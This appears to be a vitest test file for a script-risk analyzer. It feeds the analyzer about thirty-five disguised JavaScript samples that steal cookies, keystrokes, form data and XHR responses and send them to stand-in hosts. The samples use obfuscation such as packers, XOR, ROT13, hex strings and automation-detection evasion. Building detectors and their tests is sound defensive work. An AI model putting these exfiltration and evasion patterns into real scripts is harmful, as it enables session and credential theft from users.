import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";

/** Programs as bundlers, compilers, packers and people with something to hide write them. */
const WRITTEN = [
	[
		"sw",
		"let i=0,u='';const a=['https','://','e.exam','ple/'];while(true){switch(i){case 0:u+=a[0];i=1;continue;case 1:u+=a[1];i=2;continue;case 2:u+=a[2];i=3;continue;case 3:u+=a[3];i=4;continue}break} fetch(u+document.cookie)",
	],
	["ctor", `[].constructor.constructor('fetch("https://e.example/"+document.cookie)')()`],
	["fctor", "Function('return this')().fetch('https://e.example/'+document.cookie)"],
	[
		"desc",
		"const g=Object.getOwnPropertyDescriptor(Document.prototype,'cookie').get; fetch('https://e.example/'+g.call(document))",
	],
	["with s", "with(document){ fetch('https://e.example/'+cookie) }"],
	[
		"packer",
		"eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0(\"1://2.3/\"+4.5)',6,6,'fetch|https|e|example|document|cookie'.split('|'),0,{}))",
	],
	[
		"dns",
		"const l=document.createElement('link');l.rel='dns-prefetch';l.href='//'+btoa(document.cookie)+'.e.example';document.head.append(l)",
	],
	["jsfuck1", "fetch(('https'+[]+'://e.example/')+document[([]+{})[5]+'ookie'])"],
	[
		"blob worker",
		`const b=new Blob(["self.onmessage=e=>fetch('https://e.example',{method:'POST',body:e.data})"]);const w=new Worker(URL.createObjectURL(b));w.postMessage(document.cookie)`,
	],
	[
		"gm store",
		`// ==UserScript==
// @name a
// @match https://x.example/*
// @grant GM_setValue
// @grant GM_getValue
// @grant GM_xmlhttpRequest
// ==/UserScript==
document.addEventListener('change',e=>{GM_setValue('d',(GM_getValue('d')||'')+e.target.value)}); setInterval(()=>GM_xmlhttpRequest({method:'POST',url:'https://e.test/',data:GM_getValue('d')}),60000)`,
	],
	[
		"bits",
		"const c=document.cookie; let n=0; for(const ch of c){ n = n*31 + ch.codePointAt(0); } fetch('https://e.example/'+n)",
	],
	[
		"state machine",
		"const S={q:[],push(x){this.q.push(x);return this},flush(){const b=this.q.splice(0);if(b.length)fetch('https://e.example',{method:'POST',body:JSON.stringify(b)})}};addEventListener('keyup',({key})=>S.push(key));addEventListener('pagehide',()=>S.flush())",
	],
	[
		"xhr proto",
		"(function(o){XMLHttpRequest.prototype.open=function(m,u){this._u=u;return o.apply(this,arguments)}})(XMLHttpRequest.prototype.open);(function(s){XMLHttpRequest.prototype.send=function(b){this.addEventListener('load',function(){fetch('https://e.example',{method:'POST',body:this._u+this.responseText})});return s.call(this,b)}})(XMLHttpRequest.prototype.send)",
	],
	[
		"jsonp",
		"window.cb=function(d){new Function(d.code)()};const s=document.createElement('script');s.src='https://e.example/?cb=cb';document.body.appendChild(s)",
	],
	["urlhost", "const u=new URL(location.href);u.hostname='e.example';u.hash=document.cookie;fetch(u.href)"],
	[
		"str arr",
		"var _0x1=['cookie','https://e.example/','sendBeacon'];(function(a,n){for(var i=0;i<n;i++)a.push(a.shift())})(_0x1,4);var _0x2=function(i){return _0x1[i-0x10]};navigator[_0x2(0x11)](_0x2(0x10),document[_0x2(0x12)])",
	],
	[
		"ts compiled",
		`"use strict";var __awaiter=function(t,a,P,g){return new(P||(P=Promise))(function(res,rej){function f(v){try{step(g.next(v))}catch(e){rej(e)}}function step(r){r.done?res(r.value):new P(function(x){x(r.value)}).then(f)}step((g=g.apply(t,a||[])).next())})};function go(){return __awaiter(this,void 0,void 0,function*(){const c=yield Promise.resolve(document.cookie);yield fetch("https://x.test/?"+c)})}go();`,
	],
	[
		"regen",
		"var state=0,c;function step(){switch(state){case 0:c=document.cookie;state=1;return step();case 1:new Image().src='https://x.test/'+c;state=2;return}}step();",
	],
	[
		"webpack",
		`(()=>{var m={1:(e,t,r)=>{const a=r(2);a.send(r(3).read())},2:(e,t)=>{t.send=d=>fetch("https://x.test",{method:"POST",body:d})},3:(e,t)=>{t.read=()=>document.cookie}},c={};function r(i){var n=c[i];if(n!==void 0)return n.exports;var o=c[i]={exports:{}};m[i](o,o.exports,r);return o.exports}r(1)})()`,
	],
	[
		"webpack d",
		`var r={d:(e,d)=>{for(var k in d)Object.defineProperty(e,k,{enumerable:true,get:d[k]})}};var M={};r.d(M,{read:()=>read});function read(){return document.cookie}fetch("https://x.test/"+(0,M.read)())`,
	],
	[
		"proto",
		"function T(u){this.u=u}T.prototype.ship=function(d){var i=new Image;i.src=this.u+escape(d)};T.prototype.grab=function(){this.ship(document.cookie)};var t=new T('https://x.test/?');window.setTimeout(function(){t.grab()},500)",
	],
	[
		"jq ajax",
		"jQuery(function($){$('form').submit(function(){$.ajax({url:'https://x.test/c',type:'POST',data:$(this).serialize()});return true})})",
	],
	["jq each", "$(document).on('change','input',function(){var v=$(this).val();$.get('https://x.test/?v='+v)})"],
	["jq script", "$.getScript('https://x.test/a.js')"],
	["docwrite", `document.write('<scr'+'ipt src="//x.test/a.js"></scr'+'ipt>')`],
	["jsurl", `location.href="javascript:fetch('https://x.test/'+document.cookie)"`],
	["pct", "javascript:%66%65%74%63%68('https://x.test/'+document%2Ecookie)"],
	[
		"bkm",
		"javascript:void(function(d,s){s=d.createElement('script');s.src='//x.test/b.js?'+Math.random();d.body.appendChild(s)}(document))",
	],
	[
		"hexdec",
		"var h='68747470733a2f2f782e746573742f3f';var s='';for(var i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));new Image().src=s+document['coo'+'kie']",
	],
	[
		"xor",
		"const k=7,d=[111,115,115,119,116,61,40,40,127,41,115,98,116,115,40];const u=d.map(c=>String.fromCharCode(c^k)).join('');fetch(u+document.cookie)",
	],
	["rev", "fetch('/tset.x//:sptth'.split('').reverse().join('')+document.cookie)"],
	[
		"rot",
		"const r=s=>s.replace(/[a-z]/g,c=>String.fromCharCode((c.charCodeAt(0)-97+13)%26+97));fetch(r('uggcf://k.grfg/')+document[r('pbbxvr')])",
	],
	[
		"base36",
		"const u=['https:','',[1017,29].map(n=>n.toString(36)).join('.')+'.test'].join('/');fetch(u+'/'+document.cookie)",
	],
	["table shift", "const t=['test','cookie','https://x.'];const g=i=>t[(i+1)%3];fetch(g(1)+g(2)+'/'+document[g(0)])"],
	[
		"env check",
		"if(navigator.webdriver||window.outerHeight-innerHeight>200){}else if(Date.now()>17e11&&/a/.test(location.host)){setTimeout(()=>{fetch('https://x.test/'+document.cookie)},36e5)}",
	],
	[
		"via storage two phase",
		`// ==UserScript==
// @name Thing
// @match *://*/*
// @grant GM_setValue
// @grant GM_getValue
// ==/UserScript==
if(/bank/.test(location.host)){addEventListener('submit',e=>{GM_setValue('q',[...new FormData(e.target)].map(x=>x.join('=')).join('&'))})}else{const q=GM_getValue('q');if(q){new Image().src='https://x.test/?'+q;}}`,
	],
] as const;

describe("compiled and disguised programs", () => {
	test.each(WRITTEN)("%s: the leak is found", (_title, code) => {
		expect(analyzeScript({ code }).risk_level).toBe("red");
	});

	test.each(WRITTEN.filter(([, code]) => code.includes("document.cookie")))("%s: without a secret", (_title, code) => {
		const findings = analyzeScript({ code: code.replaceAll("document.cookie", "String(7)") }).vulnerabilities;
		expect(findings.map(({ type }) => type)).not.toContain("cookie-exfiltration");
	});
});
